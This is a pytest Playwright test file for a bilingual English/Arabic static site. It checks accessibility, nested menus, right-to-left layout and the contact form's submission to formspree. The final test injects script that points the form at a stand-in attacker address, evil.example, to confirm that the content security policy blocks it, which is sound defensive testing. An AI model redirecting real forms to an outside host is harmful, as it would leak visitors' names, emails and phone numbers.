"""Menus below menus, questions, blocks of any depth and the form, in Chromium, in both directions."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from axe import violations
from test_pages import OVERFLOW, Listener
from valid import problems

from conftest import published_clean
from published import Published

pytestmark = pytest.mark.browser

PICTURE = '<svg xmlns="http://www.w3.org/2000/svg" width="90" height="60"><path d="M0 9h90"/></svg>'
WORDS = """
menu:
  - label: {services}
    menu:
      - {{label: {skin}, link: "#about"}}
      - {{label: {long}, menu: [{{label: {skin} 2, link: "#faq"}}, {{label: {skin} 3, link: "#contact"}}]}}
  - {{label: {skin} 4, link: "#faq"}}
  - {{label: {services} 2, menu: [{{label: {skin} 5, link: "#contact"}}]}}
masthead: {{title: {services}, text: {long}}}
about:
  title: {skin}
  text: {long}
  blocks:
    - title: {skin}
      subtitle: {services}
      text: {long}
      image: media/a.svg
      alt: {skin}
      list: [{skin}, "[{services}](https://x.example/)"]
      rows: [{{label: "16:00–17:00", text: {skin}}}, {{label: {long}, text: {long}}}]
      buttons: [{{label: {skin}, link: "#contact"}}]
      blocks: [{{title: {skin}, text: {long}, blocks: [{{title: {skin}, list: [{long}]}}]}}]
    - {{icon: heart, title: {skin}, link: "#contact"}}
team: {{title: {skin}, people: [{{name: {skin}, text: {long}, image: media/a.svg, alt: {skin}, blocks: [{{image: media/a.svg, alt: {services}}}]}}]}}
reviews: {{title: {skin}, list: [{{text: {long}, name: {skin}, image: media/a.svg, alt: ""}}]}}
prices: {{title: {skin}, groups: [{{title: {skin}, price: "40", points: [{skin}, {long}], buttons: [{{label: {skin}, link: "#faq"}}]}}]}}
faq: {{title: {skin}, list: [{{question: {long}, answer: {long}}}, {{question: {skin}, answer: {skin}, blocks: [{{list: [{skin}]}}]}}]}}
contact:
  title: {skin}
  text: {long}
  phone: "+44 20 7946 0018"
  image: media/a.svg
  form: https://formspree.io/f/abc
  blocks: [{{text: {long}}}]
"""
SAID = {
    "en": {
        "services": "Services",
        "skin": "Skin",
        "long": "Everything that we do for you with words that go on for longer than a line of a phone is wide",
    },
    "ar": {
        "services": "الخدمات",
        "skin": "البشرة",
        "long": "كل ما نقدمه لكم بكلمات تمتد إلى أكثر من سطر واحد على شاشة الهاتف الصغيرة",
    },
}


@pytest.fixture(scope="module")
def published(tmp_path_factory: pytest.TempPathFactory) -> Published:
    folder = tmp_path_factory.mktemp("words")
    files: dict[str, str | bytes] = {
        "riwaq.toml": 'title = "Words"\nurl = "https://words.example"\nlanguages = ["en", "ar"]\n',
        "media/a.svg": PICTURE,
        "content/pages/more.en.md": "---\ntitle: More\n---\nWords.\n",
        "content/pages/more.ar.md": "---\ntitle: المزيد\n---\nكلمات.\n",
    }
    for code, said in SAID.items():
        files[f"text/{code}.yml"] = WORDS.format(**said)
    return published_clean(folder, files)


@pytest.fixture(scope="module")
def origin(published: Published, site_server: Callable[[Path], str]) -> str:
    return site_server(published.folder)


@pytest.fixture
def page(chromium: Any) -> Iterator[Any]:
    context = chromium.new_context(viewport={"width": 1280, "height": 800}, reduced_motion="reduce")
    yield context.new_page()
    context.close()


def test_every_page_is_valid_html(
    published: Published, npm_tool: Callable[[str], Path], tmp_path: Path
) -> None:
    found = problems(published.folder, npm_tool, tmp_path / "report.json")
    assert not found, "\n".join(found)


def test_axe_finds_nothing_and_nothing_sticks_out_with_all_open(
    origin: str, chromium: Any, npm_tool: Callable[[str], Path]
) -> None:
    context = chromium.new_context(bypass_csp=True, reduced_motion="reduce")
    context.add_init_script(path=npm_tool("axe-core/axe.min.js"))
    page = context.new_page()
    found: list[str] = []
    for address in ("/", "/ar/"):
        for width, scheme in ((320, "dark"), (360, "light"), (1280, "dark"), (1280, "light")):
            page.set_viewport_size({"width": width, "height": 900})
            page.emulate_media(color_scheme=scheme)
            page.goto(origin + address)
            page.evaluate("document.querySelectorAll('.question').forEach(one => one.open = true)")
            for narrow in (width < 1000, False):
                if narrow:
                    page.locator(".menu-button").click()
                    page.locator(".submenu > summary").first.click()
                    page.locator(".submenu .submenu > summary").click()
                found += violations(page, f"{address} {width} {scheme} {narrow=}")
                if wide := page.evaluate(OVERFLOW):
                    found.append(f"{address} at {width} px is {wide}")
                page.keyboard.press("Escape")
                page.keyboard.press("Escape")
                page.keyboard.press("Escape")
    context.close()
    assert not found, "\n".join(found)


@pytest.mark.parametrize("address", ["/", "/ar/"])
def test_a_menu_opens_by_the_keyboard_and_closes_by_itself(address: str, origin: str, page: Any) -> None:
    page.goto(origin + address)
    first, inner, last = (page.locator(".submenu > summary").nth(place) for place in range(3))
    first.focus()
    page.keyboard.press("Enter")
    links = page.locator(".submenu").first.locator("a")
    assert links.first.is_visible()
    page.keyboard.press("Tab")
    assert links.first.evaluate("node => node === document.activeElement")
    page.keyboard.press("Tab")
    page.keyboard.press("Space")
    assert page.locator(".submenu .submenu").evaluate("node => node.open")
    box, window = links.last.bounding_box(), page.viewport_size
    assert box["x"] >= 0
    assert box["x"] + box["width"] <= window["width"]
    page.keyboard.press("Escape")
    assert not page.locator(".submenu .submenu").evaluate("node => node.open"), "the innermost closes first"
    assert inner.evaluate("node => node === document.activeElement")
    page.keyboard.press("Escape")
    assert not page.locator(".submenu").first.evaluate("node => node.open")
    assert first.evaluate("node => node === document.activeElement")
    page.keyboard.press("Enter")
    last.click()
    assert not page.locator(".submenu").first.evaluate("node => node.open"), "one at a time"
    page.locator("h1").click()
    assert not page.locator("details[open].submenu").count()


@pytest.mark.parametrize("address", ["/", "/ar/"])
def test_the_wide_menu_stands_below_its_word_on_the_side_of_the_language(
    address: str, origin: str, page: Any
) -> None:
    page.goto(origin + address)
    summary = page.locator(".submenu > summary").first
    summary.click()
    word, menu = summary.bounding_box(), page.locator(".submenu > ul").first.bounding_box()
    assert menu["y"] >= word["y"] + word["height"]
    if address == "/":
        assert abs(menu["x"] - word["x"]) < 2
    else:
        assert abs(menu["x"] + menu["width"] - word["x"] - word["width"]) < 2


@pytest.mark.parametrize("address", ["/", "/ar/"])
def test_the_narrow_menu_opens_within_itself(address: str, origin: str, page: Any) -> None:
    page.set_viewport_size({"width": 320, "height": 640})
    page.goto(origin + address)
    page.locator(".menu-button").click()
    page.locator(".submenu > summary").first.click()
    link = page.locator(".submenu a").first
    assert link.is_visible()
    box = link.bounding_box()
    assert box["x"] >= 0
    assert box["x"] + box["width"] <= 320
    assert box["height"] >= 44
    link.click()
    assert not page.locator("#menu").is_visible(), "a choice closes the menu"


def test_menus_and_answers_need_no_script(origin: str, chromium: Any) -> None:
    context = chromium.new_context(java_script_enabled=False, viewport={"width": 360, "height": 800})
    page = context.new_page()
    page.goto(f"{origin}/ar/")
    page.locator(".menu-button").click()
    page.locator(".submenu > summary").first.click()
    assert page.locator(".submenu a").first.is_visible()
    page.keyboard.press("Escape")
    page.locator(".question summary").first.click()
    assert page.locator(".question .prose").first.is_visible()
    context.close()


@pytest.mark.parametrize("script", [True, False])
@pytest.mark.parametrize("address", ["/", "/ar/"])
def test_the_form_is_sent_only_by_the_visitor_and_only_where_it_says(
    address: str, script: bool, origin: str, chromium: Any
) -> None:
    context = chromium.new_context(java_script_enabled=script, reduced_motion="reduce")
    page = context.new_page()
    sent: list[Any] = []

    def take(route: Any) -> None:
        sent.append(route.request)
        route.fulfill(body="Thanks")

    page.route("https://formspree.io/**", take)
    heard = Listener(page, origin)
    page.goto(origin + address)
    labels = page.locator(".contact-form label")
    assert page.get_by_text("formspree.io").is_visible()
    button = page.locator(".contact-form button")
    button.click()
    assert not sent, "what is required is missing"
    page.get_by_label(labels.nth(0).inner_text()).fill("سلمى")
    page.keyboard.press("Tab")
    page.keyboard.type("salma@example.org")
    page.keyboard.press("Tab")
    page.keyboard.type("+962 79 000 0000")
    page.keyboard.press("Tab")
    page.keyboard.type("مرحبا")
    assert not sent
    assert not heard.problems
    page.keyboard.press("Tab")
    page.keyboard.press("Enter")
    page.wait_for_url("https://formspree.io/f/abc")
    (request,) = sent
    assert request.method == "POST"
    body = dict(part.split("=") for part in request.post_data.split("&"))
    assert body["email"] == "salma%40example.org"
    assert body["phone"] == "%2B962+79+000+0000"
    assert body["_gotcha"] == ""
    assert set(body) == {"name", "email", "phone", "message", "_gotcha"}
    assert request.headers["referer"] == f"{origin}/", "whose form it is, and no more"
    context.close()


def test_another_address_is_stopped_by_the_policy(origin: str, page: Any) -> None:
    page.goto(f"{origin}/")
    stopped = page.evaluate("""() => new Promise((done) => {
      document.addEventListener("securitypolicyviolation", (event) => done(event.effectiveDirective));
      const form = document.querySelector(".contact-form");
      form.noValidate = true;
      form.action = "https://evil.example/x";
      form.requestSubmit();
    })""")
    assert stopped == "form-action"
    assert page.url == f"{origin}/"
